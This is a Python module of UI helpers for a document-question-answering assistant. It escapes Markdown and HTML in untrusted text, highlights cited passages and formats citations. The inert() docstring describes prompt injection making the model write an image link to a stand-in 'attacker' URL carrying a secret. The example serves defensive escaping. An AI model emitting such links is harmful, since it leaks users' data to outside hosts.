"""Pure helpers that turn library results into what the UI shows (no Streamlit here).

Kept apart from the pages so they can be unit-tested, and so no retrieval or
ingestion logic ever lives in the UI: the pages only call :class:`rag.Assistant`.
"""

from __future__ import annotations

import html
import re
from datetime import datetime
from pathlib import PurePath

from rag.answer.prompt import label, scan_note
from rag.answer.types import Answer, Citation
from rag.answer.verify import SentenceCheck
from rag.index.manifest import DocumentRecord

__all__ = [
    "citation_caption",
    "citation_title",
    "corrected_line",
    "document_rows",
    "eta",
    "highlight",
    "inert",
    "locate",
    "page_line",
    "passage_html",
    "scan_caption",
    "unsupported_line",
]

_SPACE = re.compile(r"\s+")
#: Every ASCII character Markdown (CommonMark, GitHub's extensions, Streamlit's own
#: :colour[...] and :material/...: directives, LaTeX) can give a meaning to.
_MARKDOWN = re.compile(r"""([\\`*_{}\[\]()<>#+\-.!|~$:&"'=^%@/])""")


#: Where GitHub's autolinks could begin: a scheme's colon or an @ (after them), "www."
#: (before its dot).
_AUTOLINK = re.compile(r"(?<=[:@])|(?<=[wW]{3})(?=\.)")


def inert(text: str) -> str:
    """Untrusted text made to show as itself wherever Streamlit reads Markdown (bodies,
    captions, alerts, toasts, widget and expander labels).

    Everything shown in the UI that rag did not write itself goes through here: a
    document's words, a file's name, the model's answer (the model reads untrusted
    documents, so it can be made to write ``![x](https://attacker/?q=secret)``, which a
    browser would fetch on its own, or a link). Each character Markdown could read as
    syntax is backslash-escaped, so no image, link, autolink, HTML tag, heading, list,
    table, formula or Streamlit directive can form; the text reads the same. Safe to
    apply piece by piece to a stream.

    GitHub's autolinks (``https://...``, ``www.``, an e-mail address) form from the text
    itself, escapes or not, so a zero-width space follows every ``:`` and ``@`` and
    splits ``www.``: the text looks the same and no URL can be read out of it.
    """
    text = _AUTOLINK.sub("\u200b", text)
    return _MARKDOWN.sub(r"\\\1", text)


def locate(passage: str, quote: str) -> tuple[int, int] | None:
    """Character offsets of ``quote`` inside ``passage`` (whitespace-insensitive), or None."""
    quote = quote.rstrip("…").strip()
    if not quote:
        return None
    start = passage.find(quote)
    if start >= 0:
        return start, start + len(quote)
    words = [re.escape(w) for w in quote.split()]
    match = re.search(r"\s+".join(words), passage) if words else None
    return (match.start(), match.end()) if match else None


def highlight(passage: str, span: tuple[int, int] | None) -> str:
    """``passage`` as safe HTML with ``span`` wrapped in ``<mark>``.

    Document text is untrusted: everything is escaped, and line breaks become
    ``<br>`` so the text stays inside one HTML block (no Markdown is interpreted).
    """

    def safe(text: str) -> str:
        return html.escape(text).replace("\n", "<br>")

    if span is None:
        body = safe(passage)
    else:
        start, end = span
        body = (
            safe(passage[:start])
            + '<mark class="rag-support">'
            + safe(passage[start:end])
            + "</mark>"
            + safe(passage[end:])
        )
    return f'<div class="rag-passage">{body}</div>'


def citation_title(c: Citation) -> str:
    """The label of a citation's expander: ``[n] file, page p · score``, and for a page
    read by OCR ``· scanned page, OCR confidence NN %``."""
    scan = f" · {scan_note(c.ocr_confidence)}" if c.ocr else ""
    return inert(f"[{c.n}] {label(c.source, c.page)} · score {c.score:.2f}{scan}")


def scan_caption(c: Citation) -> str | None:
    """For a citation of a page read by OCR: a warning that its words may be misread."""
    if not c.ocr:
        return None
    return inert(
        f"Text read by OCR from a scanned page (confidence {c.ocr_confidence:.0f} %): "
        "the quote may contain OCR errors; check the page itself."
    )


def page_line(path: str, page: int, pages: int | None, ocr: bool) -> str:
    """``"scan.pdf: page 37/300 (OCR)"``: where the parse of a long document has got to."""
    of = f"/{pages}" if pages else ""
    return inert(f"{PurePath(path).name}: page {page}{of}" + (" (OCR)" if ocr else ""))


def citation_caption(c: Citation) -> str:
    """The full path under a citation's title."""
    return inert(c.source)


def unsupported_line(s: SentenceCheck) -> str:
    """The warning under an answer for a sentence the passages do not support."""
    return f"Not supported by your documents: “{inert(s.text)}”"


def corrected_line(s: SentenceCheck) -> str:
    """The note for a sentence whose citation was moved to the passage that supports it."""
    return inert(f"↪ Citation corrected to {s.citations}: “{s.text}”")


def passage_html(answer: Answer, c: Citation) -> str:
    """The cited passage with the supporting span highlighted: the exact span the
    sentence check found (its character offsets), else where the quote occurs."""
    passage = answer.passages[c.n - 1].text
    for s in answer.sentences:
        if s.span is not None and s.span.n == c.n and c.n in s.citations:
            return highlight(passage, (s.span.start, s.span.end))
    return highlight(passage, locate(passage, c.quote))


def document_rows(docs: list[DocumentRecord], query: str = "") -> list[dict[str, object]]:
    """Rows for the library table, filtered by a case-insensitive substring of the path."""
    needle = query.strip().lower()
    rows: list[dict[str, object]] = []
    for d in docs:
        if needle and needle not in d.source.lower():
            continue
        rows.append(
            {
                "name": PurePath(d.source).name,
                "type": d.file_type,
                "pages": d.pages,
                "chunks": d.chunks,
                "ingested at": _when(d.ingested_at),
                "path": d.source,
            }
        )
    return rows


def eta(elapsed_s: float, done: int, total: int) -> str:
    """``"3/10 files · about 12 s left"`` from the pace so far."""
    if done <= 0 or total <= 0:
        return f"0/{total} files"
    left = elapsed_s / done * (total - done)
    when = "done" if done >= total else f"about {_duration(left)} left"
    return f"{done}/{total} files · {when}"


def _duration(seconds: float) -> str:
    if seconds < 60:
        return f"{max(1, round(seconds))} s"
    minutes, secs = divmod(round(seconds), 60)
    return f"{minutes} min {secs:02d} s"


def _when(iso: str) -> str:
    try:
        return datetime.fromisoformat(iso).astimezone().strftime("%Y-%m-%d %H:%M")
    except ValueError:
        return iso
